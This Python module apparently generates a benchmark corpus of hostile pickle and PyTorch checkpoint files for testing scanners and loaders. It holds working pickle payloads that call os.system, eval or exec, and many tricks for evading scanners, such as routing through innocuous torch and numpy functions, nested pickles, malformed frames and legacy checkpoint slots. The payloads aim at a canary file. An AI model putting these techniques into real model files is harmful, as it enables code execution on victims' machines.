"""Pickles that run something in an ordinary unpickler, each in its own way."""

from __future__ import annotations

import marshal
import os
import pickle
import struct
from collections.abc import Callable
from pathlib import Path

from bench.hostile.checkpoints import checkpoint, infected, legacy, stored_zip
from bench.hostile.opcodes import (
    EMPTY_DICT,
    NONE,
    POP,
    PROTO,
    STOP,
    call,
    called,
    data,
    dict_of,
    get,
    name,
    path,
    pickled,
    python,
    shell,
    system,
    text,
    tuple_of,
)
from bench.hostile.recipe import Loader, Recipe, lies, odd, runs

_REBUILD = name("torch._tensor", "_rebuild_from_type_v2")  # calls its first argument with the third


def _protocol(number: int) -> Callable[[Path], bytes]:
    class Calls:
        def __init__(self, command: str) -> None:
            self.command = command

        def __reduce__(self) -> tuple[object, ...]:
            return os.system, (self.command,)

    return lambda canary: pickle.dumps({"state_dict": {}, "x": Calls(shell(canary))}, protocol=number)


def _mapped(canary: Path) -> bytes:
    """map(os.system, [...]), which whatever reads it to its end runs."""
    return call("builtins", "map", name("os", "system"), tuple_of(text(shell(canary))))


def _newobj(canary: Path) -> bytes:
    lazy = name("builtins", "map") + tuple_of(name("os", "system"), tuple_of(text(shell(canary)))) + b"\x81"
    return pickled(name("builtins", "bytes") + tuple_of(lazy) + b"\x81")


def _reconstructor(canary: Path) -> bytes:
    of_list = name("builtins", "list")
    return pickled(call("copyreg", "_reconstructor", of_list, of_list, _mapped(canary)))


def _from_memo(canary: Path) -> bytes:
    names = text("os") + b"\x94" + POP + text("system") + b"\x94" + POP
    return pickled(names, called(b"h\x00h\x01\x93", text(shell(canary))))


def _computed(canary: Path) -> bytes:
    return pickled(called(call("builtins", "str", text("os")) + text("system") + b"\x93", text(shell(canary))))


def _marshalled(canary: Path) -> bytes:
    code = marshal.dumps(compile(python(canary), "x", "eval"))
    function = call("types", "FunctionType", call("marshal", "loads", data(code)), EMPTY_DICT)
    return pickled(called(function))


def _state_is_called(canary: Path) -> bytes:
    """BUILD asks the object for its `__setstate__`, which an earlier BUILD has set."""
    armed = call("argparse", "Namespace") + dict_of(__setstate__=name("os", "system")) + b"b"
    return pickled(armed, text(shell(canary)) + b"b")


def _append_is_called(canary: Path) -> bytes:
    armed = call("types", "SimpleNamespace") + dict_of(append=name("os", "system")) + b"b"
    return pickled(armed, text(shell(canary)) + b"a")


def _known_names_touch(canary: Path) -> bytes:
    """Every name is that of a harmless class; one of them calls what it is given."""
    touch = get(path(canary), "touch")
    return pickled(called(_REBUILD, touch, name("builtins", "str"), tuple_of(), EMPTY_DICT))


def _known_names_write(canary: Path) -> bytes:
    write = get(path(canary), "write_text")
    return pickled(call("numpy.random._pickle", "__generator_ctor", text("x"), write))


def _known_names_run(canary: Path) -> bytes:
    """From a method of a harmless class over its globals to `eval`."""
    dictionary, look_up = name("builtins", "dict"), name("builtins", "getattr")
    module = called(
        _REBUILD, look_up, dictionary, tuple_of(get(name("pathlib", "Path"), "touch"), text("__globals__")), NONE
    )
    builtins = called(_REBUILD, get(module, "get"), dictionary, tuple_of(text("__builtins__")), NONE)
    space = call("types", "SimpleNamespace") + builtins + b"b"
    return pickled(called(_REBUILD, get(space, "eval"), dictionary, tuple_of(text(python(canary))), NONE))


def _nested_pickle(canary: Path) -> bytes:
    return pickled(call("torch.storage", "_load_from_bytes", data(pickled(system(canary)))))


def _nested_zip(canary: Path) -> bytes:
    return pickled(call("torch.storage", "_load_from_bytes", data(infected(system(canary)))))


def _called_twice(canary: Path) -> bytes:
    importer = call("importlib", "import_module", text("os"))
    return pickled(called(call("operator", "methodcaller", text("system"), text(shell(canary))), importer))


def _partial(canary: Path) -> bytes:
    return pickled(called(call("functools", "partial", name("os", "system"), text(shell(canary)))))


def _file_handler(canary: Path) -> bytes:
    return pickled(call("logging", "FileHandler", text(str(canary))))


def _memory_map(canary: Path) -> bytes:
    return pickled(call("numpy", "memmap", text(str(canary)), text("uint8"), text("w+"), b"K\x00", tuple_of(b"K\x08")))


def _storage_from_file(canary: Path) -> bytes:
    storage = name("torch.storage", "UntypedStorage")
    maker = get(storage, "from_file")
    return pickled(called(_REBUILD, maker, storage, tuple_of(text(str(canary)), b"\x88", b"K\x40"), NONE))


def _hook(canary: Path) -> bytes:
    """A layer that touches the canary when an image passes it: nothing runs on loading."""
    touch = call("functools", "partial", get(path(canary), "touch"), b"M\xa4\x01")
    hooks = call("collections", "OrderedDict") + b"K\x01" + touch + b"s"
    return pickled(call("torch.nn.modules.linear", "Identity") + dict_of(_forward_pre_hooks=hooks) + b"b")


def _class_changed(canary: Path) -> bytes:
    """Linear.forward of the whole process becomes os.system."""
    layer = name("torch.nn.modules.linear", "Linear")
    return pickled(layer + tuple_of(NONE, dict_of(forward=name("os", "system"))) + b"b")


def _logger_silenced(_: Path) -> bytes:
    return pickled(call("logging", "getLogger") + dict_of(disabled=b"\x88") + b"b")


def _framed(canary: Path) -> bytes:
    """A frame that ends in the middle of the command."""
    body = system(canary) + STOP
    return PROTO + b"\x95" + struct.pack("<Q", 20) + body


def _taken_for_safetensors(canary: Path) -> bytes:
    """Its ninth byte is that of a safetensors header."""
    return PROTO + text("abcd{")[:8] + POP + system(canary) + STOP


def _bare(expression: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    return lambda canary: pickled(expression(canary))


def _one(module: str, attribute: str, argument: Callable[[Path], str]) -> Callable[[Path], bytes]:
    return lambda canary: pickled(call(module, attribute, text(argument(canary))))


def _python2(module: str, attribute: str, argument: Callable[[Path], str]) -> Callable[[Path], bytes]:
    """By the names that Python 2 had, which protocols up to 2 translate."""
    return lambda canary: f"c{module}\n{attribute}\n(V{argument(canary)}\ntR.".encode()


def _hidden(prefix: bytes) -> Callable[[Path], bytes]:
    """Behind opcodes that the C unpickler takes and stricter readers do not."""
    return lambda canary: prefix + POP + system(canary) + STOP


PICKLES: tuple[Recipe, ...] = (
    *(runs(f"protocol-{i}.pkl", Loader.PICKLE, f"os.system, protocol {i}", _protocol(i)) for i in range(6)),
    runs("inst.pkl", Loader.PICKLE, "os.system by INST", lambda c: f"(S{shell(c)!r}\nios\nsystem\n.".encode()),
    runs("obj.pkl", Loader.PICKLE, "os.system by OBJ", lambda c: b"(cos\nsystem\n" + text(shell(c)) + b"o."),
    runs("no-suffix", Loader.PICKLE, "protocol 0 without any suffix", _protocol(0)),
    runs("weights.bin", Loader.PICKLE, "protocol 0 under the name of weights", _protocol(0)),
    runs("newobj.pkl", Loader.PICKLE, "bytes(map(os.system, ...)) by NEWOBJ alone", _newobj),
    runs("reconstructor.pkl", Loader.PICKLE, "copyreg reads a map to its end", _reconstructor),
    runs("names-from-memo.pkl", Loader.PICKLE, "the names come from the memo", _from_memo),
    runs("name-computed.pkl", Loader.PICKLE, "the module's name is computed", _computed),
    runs("marshal.pkl", Loader.PICKLE, "compiled code in a FunctionType", _marshalled),
    runs("setstate.pkl", Loader.PICKLE, "BUILD calls what an earlier BUILD set", _state_is_called),
    runs("append.pkl", Loader.PICKLE, "APPEND calls what BUILD set", _append_is_called),
    runs("known-names-touch.pkl", Loader.PICKLE, "harmless names, one calls its argument", _known_names_touch),
    runs("known-names-write.pkl", Loader.PICKLE, "harmless names, numpy calls its argument", _known_names_write),
    runs("known-names-run.pkl", Loader.PICKLE, "harmless names lead to eval", _known_names_run),
    runs("nested-pickle.pkl", Loader.PICKLE, "a pickle in _load_from_bytes", _nested_pickle),
    runs("nested-zip.pkl", Loader.PICKLE, "a checkpoint in _load_from_bytes", _nested_zip),
    runs("methodcaller.pkl", Loader.PICKLE, "operator.methodcaller on an imported module", _called_twice),
    runs("partial.pkl", Loader.PICKLE, "functools.partial, called", _partial),
    runs("file-handler.pkl", Loader.PICKLE, "logging.FileHandler makes a file", _file_handler),
    runs("memory-map.pkl", Loader.PICKLE, "numpy.memmap makes a file", _memory_map),
    runs("storage-from-file.pkl", Loader.PICKLE, "a torch storage makes a file", _storage_from_file),
    runs("eval.pkl", Loader.PICKLE, "builtins.eval", _one("builtins", "eval", python)),
    runs("exec.pkl", Loader.PICKLE, "builtins.exec", _one("builtins", "exec", python)),
    runs("python2-eval.pkl", Loader.PICKLE, "__builtin__.eval", _python2("__builtin__", "eval", python)),
    runs("python2-commands.pkl", Loader.PICKLE, "commands.getoutput", _python2("commands", "getoutput", shell)),
    runs("timeit.pkl", Loader.PICKLE, "timeit.timeit runs its statement", _one("timeit", "timeit", python)),
    runs("profile.pkl", Loader.PICKLE, "cProfile.run", _one("cProfile", "run", python)),
    runs("collect-env.pkl", Loader.PICKLE, "torch's own shell", _one("torch.utils.collect_env", "run", shell)),
    runs(
        "runstring.pkl",
        Loader.PICKLE,
        "numpy's own exec",
        lambda c: pickled(call("numpy.testing._private.utils", "runstring", text(python(c)), EMPTY_DICT)),
    ),
    runs(
        "through-torch.pkl",
        Loader.PICKLE,
        "os by way of a torch module",
        _one("torch.serialization", "os.system", shell),
    ),
    runs(
        "path-touch.pkl",
        Loader.PICKLE,
        "Path.touch by a dotted name",
        lambda c: pickled(call("pathlib", "Path.touch", path(c))),
    ),
    runs(
        "pickle-loads.pkl",
        Loader.PICKLE,
        "pickle.loads",
        lambda c: pickled(call("pickle", "loads", data(pickled(system(c))))),
    ),
    runs("broken-off.pkl", Loader.PICKLE, "breaks off behind the payload", lambda c: PROTO + system(c) + b"\xff\xff"),
    runs(
        "second-pickle.pkl", Loader.PICKLE, "behind an empty dict", lambda c: pickled(EMPTY_DICT) + pickled(system(c))
    ),
    runs("fortieth-pickle.pkl", Loader.PICKLE, "behind forty", lambda c: pickled(EMPTY_DICT) * 40 + pickled(system(c))),
    runs("frame.pkl", Loader.PICKLE, "a frame that is too short", _framed),
    runs("brace.pkl", Loader.PICKLE, "looks like safetensors", _taken_for_safetensors),
    runs("nul-integer.pkl", Loader.PICKLE, "an integer with a NUL", _hidden(PROTO + b"I5\x00x\n")),
    runs("nul-float.pkl", Loader.PICKLE, "a float with a NUL", _hidden(PROTO + b"F1.0\x00x\n")),
    runs("read-only-buffer.pkl", Loader.PICKLE, "READONLY_BUFFER of bytes", _hidden(b"\x80\x05C\x01a\x98")),
    runs("million-steps.pkl", Loader.PICKLE, "behind a million steps", _hidden(PROTO + b"N0" * 1_000_100 + NONE)),
    runs(
        "known-names-run.pt",
        Loader.TORCH,
        "harmless names lead to eval, in a net's checkpoint",
        lambda c: infected(_known_names_run(c)[2:-1]),
    ),
    runs("legacy-magic.pt", Loader.TORCH, "before the magic number", lambda c: legacy(magic=system(c))),
    runs("legacy-system-info.pt", Loader.TORCH, "in the third pickle", lambda c: legacy(system_info=system(c))),
    runs("legacy-keys.pt", Loader.TORCH, "in the pickle of the storages' keys", lambda c: legacy(keys=system(c))),
    runs("legacy-value.pt", Loader.TORCH, "in the state dict", lambda c: legacy(value=system(c))),
    runs(
        "legacy-late-magic.pt",
        Loader.TORCH,
        "the magic number comes late",
        lambda c: legacy(magic=(NONE + POP) * 9 + system(c)),
    ),
    runs(
        "before-legacy.pt", Loader.TORCH, "in front of a whole old checkpoint", lambda c: pickled(system(c)) + legacy()
    ),
    odd("class-changed.pkl", "loading it changes Linear for the whole process", _class_changed, refusable=False),
    odd("hook.pkl", "runs when an image passes", _hook, refusable=False),
    odd("logger-silenced.pkl", "loading it silences a logger", _logger_silenced, refusable=False),
    odd("unknown-class.pkl", "the class of a package nobody knows", lambda _: pickled(call("acme.models", "Net"))),
    odd("extension.pkl", "an extension code", lambda _: b"\x80\x02\x82\x01)R."),
    odd("script-name.pkl", "TorchScript's names outside TorchScript", lambda _: pickled(call("__torch__.a", "system"))),
    odd("escapes.pkl", "a name with escape sequences", lambda _: pickled(call("os\n\x1b[31m", "sys\r`|tem"))),
    lies(
        "pickle-and-zip.pt",
        "unpicklers read an empty dict, zip readers a checkpoint",
        lambda _: pickled(EMPTY_DICT) + checkpoint(),
    ),
    lies(
        "stored-zip.pkl",
        "a zip inside a pickle's bytes, at its end",
        lambda c: PROTO + data(stored_zip({"archive/data.pkl": pickled(system(c)), "archive/version": b"3"})) + STOP,
    ),
)
